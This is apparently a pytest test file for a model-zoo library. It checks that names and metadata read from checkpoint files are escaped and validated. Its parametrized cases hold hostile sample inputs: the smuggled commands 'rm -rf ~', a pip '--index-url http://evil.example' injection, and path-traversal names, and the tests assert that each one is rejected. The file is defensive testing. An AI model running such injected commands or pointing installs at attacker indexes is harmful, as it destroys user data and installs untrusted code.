"""Names from files are checked where they are read and escaped wherever they are shown:
the terminal, the model card's Markdown and its YAML header."""

from __future__ import annotations

import json

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from safetensors import safe_open
from safetensors.torch import save_file
from typer.testing import CliRunner

import zoo
from cli import app
from zoo.errors import ZooError
from zoo.latent import concept_path
from zoo.names import markdown_code, markdown_text, printable, yaml_string

runner = CliRunner()
ANY_CHARACTER = st.characters(min_codepoint=0, max_codepoint=0x10FFFF, categories=None)


@given(st.text(ANY_CHARACTER))
def test_yaml_strings_read_back_as_exactly_the_string_written(text):
    assert yaml.safe_load(f"key: {yaml_string(text)}") == {"key": text}


@given(st.text(ANY_CHARACTER))
def test_markdown_of_any_name_is_one_line_that_opens_no_structure(text):
    for shown in (markdown_code(text), markdown_text(text), printable(text)):
        assert "\n" not in shown and "\r" not in shown
        shown.encode("utf-8")  # lone surrogates are escaped, so the card can be written
    assert "|" not in markdown_code(text).replace("\\|", "")  # a table cell stays one cell


def test_escapes_keep_plain_names_readable():
    assert printable("Black_Hair") == "Black_Hair"
    assert printable("a\x1b[31mred\n\u202eb\udcff") == "a\\x1b[31mred\\n\\u202eb\\udcff"
    assert markdown_code("cvae-20261202") == "`cvae-20261202`"
    assert markdown_code("a`b") == "``a`b``"
    assert markdown_text("Chen et al. 2018 [x](y) *a*") == "Chen et al. 2018 \\[x\\](y) \\*a\\*"


@pytest.mark.parametrize("name", ["../escape", "a/b", "[/]", ".hidden", "", "x" * 101])
def test_a_concept_vector_is_never_written_outside_its_folder(name, tmp_path):
    with pytest.raises(ZooError, match="not a plain name"):
        concept_path(tmp_path / "model.safetensors", name)
    assert concept_path(tmp_path / "model.safetensors", "Smiling").parent == tmp_path / "concepts"


def crafted_checkpoint(tmp_path, **metadata: str):
    """A real checkpoint whose metadata fields are replaced by ``metadata``."""
    model = zoo.create_model("vae", image_size=16, base_channels=4, max_channels=8, latent_dim=4)
    path = tmp_path / "model.safetensors"
    zoo.save_checkpoint(path, model)
    with safe_open(str(path), framework="pt") as handle:
        tensors = {name: handle.get_tensor(name) for name in handle.keys()}  # noqa: SIM118
        stored = dict(handle.metadata())
    stored.update(metadata)
    save_file(tensors, str(path), metadata=stored)
    return path


def test_a_checkpoint_with_a_crafted_attribute_name_is_one_line(tmp_path):
    path = crafted_checkpoint(tmp_path, **{"zoo.attributes": json.dumps(["[/]", "../x"])})
    with pytest.raises(ZooError, match=r"attribute name '\[/\]' is not a plain name"):
        zoo.read_info(path)
    done = runner.invoke(app, ["info", str(path)])
    assert done.exit_code == 1 and "Traceback" not in done.output
    assert "not a plain name" in done.output


@pytest.mark.parametrize(
    ("source", "version", "advice"),
    [
        ("tiny-zoo-plugin", "0.3", "pip install 'tiny-zoo-plugin==0.3'"),
        ("tiny-zoo-plugin", "0.3; rm -rf ~", "pip install 'tiny-zoo-plugin'"),
        ("x' --index-url http://evil.example '", "1.0", None),
        ("evil; rm -rf ~", "", None),
    ],
)
def test_install_advice_names_only_a_valid_distribution(tmp_path, source, version, advice):
    path = crafted_checkpoint(
        tmp_path, **{"zoo.model": "gone-model", "zoo.source": source, "zoo.source_version": version}
    )
    with pytest.raises(ZooError) as caught:
        zoo.load(path)
    message = str(caught.value)
    if advice is None:
        assert "pip install" not in message and "not a distribution name" in message
        assert "importable" not in message
    else:
        assert message.endswith(advice)
